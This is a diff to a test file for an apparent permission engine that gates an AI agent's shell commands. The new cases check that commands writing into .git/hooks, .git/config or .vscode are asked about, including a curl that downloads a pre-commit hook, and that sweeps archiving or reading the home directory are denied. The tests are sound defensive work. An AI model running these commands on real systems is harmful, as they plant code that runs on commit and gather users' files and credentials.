@@ -136,6 +136,10 @@ describe("protected files", () => {
       "git mv x .vscode/settings.json",
       "git checkout HEAD -- .vscode/settings.json",
       "git config core.pager x",
+      "sed -i 's/a/b/w .git/config' x",
+      "cd .git/hooks && tar xf ../../a.tar",
+      "cd .git/hooks && curl -O http://x/pre-commit",
+      "cd .vscode; unzip -o ../a.zip",
     ];
     for (const settings of [{ allow: ["Bash(*)"] }, { mode: "bypassPermissions" as const }])
       await expectAll(engine, "ask", commands, settings);
@@ -152,6 +156,24 @@ describe("protected files", () => {
 });
 
 describe("sweeps", () => {
+  it("over the team's state are denied, and over a file that a rule denies ask", async () => {
+    using engine = openEngine();
+    const mode = "bypassPermissions" as const;
+    for (const command of [
+      "find -H {HOME} -name config.json -exec cat {} +",
+      "tar cf x.tar {HOME}",
+      "tar -C {HOME} -cf x.tar .",
+      "rsync -a {HOME} out",
+      "zip -r x.zip {HOME}",
+    ])
+      await expectAll(engine, "deny", [engine.fill(command)], { mode });
+    const settings = { allow: ["Bash(*)"], deny: ["Read(.env)"] };
+    await expectAll(engine, "ask", ["find . -type f -exec cat {} +", "tar czf x.tgz ."], settings);
+    await expectAll(engine, "allow", ["find src -type f -exec wc -l {} +", "tar czf x.tgz src"], {
+      allow: ["Bash(*)"],
+    });
+  });
+
   it("that a test by name does not narrow ask in every mode", async () => {
     using engine = openEngine();
     const mode = "bypassPermissions" as const;
